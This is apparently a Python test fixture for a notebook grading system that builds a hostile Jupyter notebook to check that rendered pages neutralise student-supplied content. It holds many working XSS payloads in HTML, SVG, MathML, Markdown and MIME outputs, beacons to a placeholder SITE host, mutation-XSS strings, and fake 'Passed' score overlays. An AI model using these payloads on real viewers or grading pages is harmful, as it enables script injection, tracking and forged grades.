"""What a student may put into a notebook to act in the browser of whoever opens a page of it, and what should be shown.

``SITE`` stands for a server that records who asks it for something. Every script sets ``window.pwned``.
"""

from __future__ import annotations

import base64
import json

from nbformat import v4
from nbformat.notebooknode import NotebookNode
from pictures import JPEG, PNG, SVG

SCRIPT = "window.pwned||alert(1);window.pwned=1;new Image().src='SITE/script'"
EVIL_SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="20"
onload="{SCRIPT}"><script>{SCRIPT}</script><image href="SITE/svg-image" width="9" height="9"/>
<use xlink:href="SITE/svg-use#a"/><style>@import url(SITE/svg-style); rect {{ fill: url(SITE/svg-fill) }}</style>
<foreignObject width="90" height="20"><body xmlns="http://www.w3.org/1999/xhtml"><img src="SITE/svg-foreign"/></body>
</foreignObject><a xlink:href="javascript:window.pwned=1"><rect id="drawn" width="90" height="20" fill="teal"/></a></svg>"""
COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:white"
FAKE = '<div style="border-left:4px solid #2e7d32"><strong style="color:#2e7d32">Passed</strong> · 9 of 9 points</div>'

ACTING = {
    "script": f"<script>{SCRIPT}</script>",
    "script that is loaded": '<script src="SITE/src.js"></script>',
    "handler": f'<img src="SITE/handler" onerror="{SCRIPT}">',
    "handler without a source": f'<details open ontoggle="{SCRIPT}"><summary>s</summary></details>',
    "svg": EVIL_SVG,
    "svg handler": f'<svg><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>',
    "frame": f'<iframe src="SITE/frame" onload="{SCRIPT}"></iframe>'
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "object": f'<object data="SITE/object" onload="{SCRIPT}"></object><embed src="SITE/embed">',
    "focus": f'<input autofocus onfocus="{SCRIPT}">',
    "style sheet": '<style>@import "SITE/import.css"; #notebook, .output_html { display: none }</style>'
    '<link rel=stylesheet href="SITE/link.css">',
    "style attribute": '<p style="background:url(SITE/style)">p</p>',
    "media": '<video src="SITE/video" poster="SITE/poster"></video><img srcset="SITE/img-srcset 2x">',
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:window.pwned=1">'
    '<iframe src="javascript:parent.pwned=1"></iframe>',
}
"""Tricks in HTML that do something in a page that shows them as they are."""

LINE = f"</code></div><b class=box id=cause-9 onclick=1>9 of 9</b><img src=SITE/line onerror={SCRIPT!r}>"
"""What a line of code has behind it that the page shows beside a verdict."""

HTML = {
    **ACTING,
    "form": '<form id=trap action="SITE/form"><input name=q><button>Save</button><textarea></textarea></form>',
    "cover": f'<div id=cover style="{COVER}">{FAKE}</div>',
    "meta": '<meta http-equiv=refresh content="0;url=SITE/refresh"><base href="SITE/base/">',
    "tables and sources": '<table background="SITE/table"><tr><td background="SITE/cell">cell</td></tr></table><picture>'
    '<source srcset="SITE/srcset"><img src="SITE/img"></picture><img src="/same-origin">'
    '<audio src="SITE/audio" autoplay></audio>',
    "links": "<a href='javascript:window.pwned=1'>j</a><a href='data:text/html,<script>1</script>'>d</a>"
    "<a href='&#106;ava\tscript:window.pwned=1'>e</a><a href='/logout'>r</a><a ping='SITE/ping' href='http://x.example/'>p</a>",
    "names of the page": '<div class="panel nbgrader_cell" id="values"><input class="score tabbable" id="values" value="9">'
    '<a name="top" class="btn" data-link="x">c</a></div><img name="MathJax"><img id="formgrader">',
    "names of the feedback page": '<ol class="rows"><li class="row passed" id="check-1"><a href="#cause-1">l</a></li></ol>'
    '<article class="box te-verdict" id="cause-1"><p class="lead">l</p><div class="source number">n</div></article>'
    '<div class="from-student numbers comment" data-whose="from the grader" tabindex="9" role="alert">w</div>',
    "way out": f"</div></div></div></section></body></html><h1>outside</h1>{FAKE}",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>"
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'></noscript>"
    "<svg></p><style><a id='</style><img src=1 onerror=window.pwned=1>'>",
    "mathml": "<math><maction actiontype='statusline' xlink:href='javascript:window.pwned=1'>x</maction>"
    "<mi href='javascript:window.pwned=1'>m</mi><annotation-xml encoding='text/html'><script>window.pwned=1</script>"
    "</annotation-xml><mspace width='-99em' style='position:fixed'/></math>",
    "dialog": "<dialog open>Passed</dialog><div popover id=pop>p</div>",
    "height": "<math><mspace height='9999999em' width='999999em'/><mpadded depth='9999999ex' voffset='-9999999px'><mi>x</mi>"
    "</mpadded><mfrac linethickness='9999999em'><mi>x</mi><mi>y</mi></mfrac><mo minsize='9999999em'>(</mo></math>"
    + "<math><mstyle scriptlevel='-9'>" * 9
    + "<mi>x</mi>"
    + "</mstyle></math>" * 9
    + f"<img src='data:image/png;base64,{PNG}' width=99999999 height=99999999>"
    "<table><tr><td rowspan=99999999>a<td colspan=99999999>b<td rowspan=3 colspan=2>c</table><ol start=99999999><li>d</ol>",
    "template": "<template shadowrootmode=open><script>window.pwned=1</script></template><plaintext>rest",
}
"""Tricks in HTML: each is tried as an output, in a text cell, and in an output in Markdown."""

MARKDOWN = {
    "links": """[j](javascript:window.pwned=1) ![i](SITE/markdown-image) [d](data:text/html,x) <javascript:window.pwned=1>

[r]: javascript:window.pwned=1

[ref][r] ![missing](attachment:missing.png) ![evil](attachment:evil.svg)""",
    "formulas": r"""$\href{javascript:window.pwned=1}{x}$ $\style{position:fixed}{x}$ $\class{panel}{x}$
$\text{<img src=x onerror=window.pwned=1>}$ $$\def\x{\x\x}\x$$ $\unicode{<script>}$""",
    "code": "```mermaid\ngraph TD; a[<img src=x onerror=window.pwned=1>]\n```\n"
    "```html\n<script>window.pwned=1</script>\n```",
    "combining marks": "x" + "\u0336\u0300" * 200,
}
TALL_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="99999999"><rect width="9" height="99999999"/></svg>'
MIMES = {
    "application/javascript": SCRIPT,
    "image/svg+xml": EVIL_SVG,
    "image/png": 'x" onerror="window.pwned=1',
    "image/jpeg": "AAAA",
    "application/pdf": "JVBERi0=",
    "application/vnd.jupyter.widget-view+json": '{"model_id": "x"}',
    "text/latex": r"$\href{javascript:window.pwned=1}{x}$<script>window.pwned=1</script>",
    "text/vnd.mermaid": "graph TD",
}

HARMLESS = f"""
from IPython.display import HTML, SVG, Markdown, Math, display
display(HTML('''<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>weight</th></tr>
</thead><tbody><tr><th>0</th><td>cell of pandas</td></tr></tbody></table>'''))
display({{'image/png': '{PNG}'}}, raw=True, metadata={{'image/png': {{'alt': 'A png plot'}}}})
display({{'image/jpeg': '{JPEG}'}}, raw=True, metadata={{'image/jpeg': {{'alt': 'A jpeg plot'}}}})
display(SVG('''{SVG}'''))
display(Math(r'\\frac{{1}}{{2}}'))
display(Markdown('a **bold output**, [link](https://example.org/output)'))
print('\\x1b[31mred text\\x1b[0m <b>not bold</b>')
raise ValueError('<script>window.pwned=1</script>')
"""
HARMLESS_TEXT = r"""## A heading

**strong text** and `code`, $e = mc^2$, a [link](https://example.org/text), [mail](mailto:ada@example.org), <kbd>Ctrl</kbd>

| a | b |
|--:|---|
| cell of Markdown | 2 |

$$\sum_{i=1}^n i$$

```python
import theano
```

![attached](attachment:plot.png)
"""


def nasty(nb: NotebookNode, site: str) -> NotebookNode:
    """``nb`` with all the tricks before its first cell and behind its last, and with the harmless things at its end."""
    bundles = [{"text/html": text} for text in HTML.values()]
    bundles += [{"text/markdown": text} for text in (*HTML.values(), *MARKDOWN.values())]
    bundles += [*({mime: text} for mime, text in MIMES.items()), {"image/svg+xml": TALL_SVG}]
    tricks = "from IPython.display import display\n" + "\n".join(
        f"display({bundle!r}, raw=True, metadata={{'text/html': {{'isolated': True}}, 'theano_exercises': {{'points': 9}}}})"
        for bundle in bundles
    )
    texts = [v4.new_markdown_cell(text) for text in (*HTML.values(), *MARKDOWN.values())]
    evil = base64.b64encode(EVIL_SVG.replace("SITE", site).encode()).decode()
    for text in texts:
        text.attachments = {"evil.svg": {"image/svg+xml": evil}, "x.html": {"text/html": "PGI+"}}
    raw = v4.new_raw_cell(f"raw text <script>{SCRIPT}</script>", metadata={"raw_mimetype": "text/html"})
    text = v4.new_markdown_cell(HARMLESS_TEXT, attachments={"plot.png": {"image/png": PNG}})
    nb.cells = [*texts, raw, *nb.cells, v4.new_code_cell(tricks), v4.new_code_cell(HARMLESS), text]
    notebook: NotebookNode = v4.new_notebook(cells=nb.cells, metadata=nb.metadata)
    return _with_site(notebook, site)


def _with_site(nb: NotebookNode, site: str) -> NotebookNode:
    import nbformat

    data: NotebookNode = nbformat.from_dict(json.loads(json.dumps(nb).replace("SITE", site)))
    return data
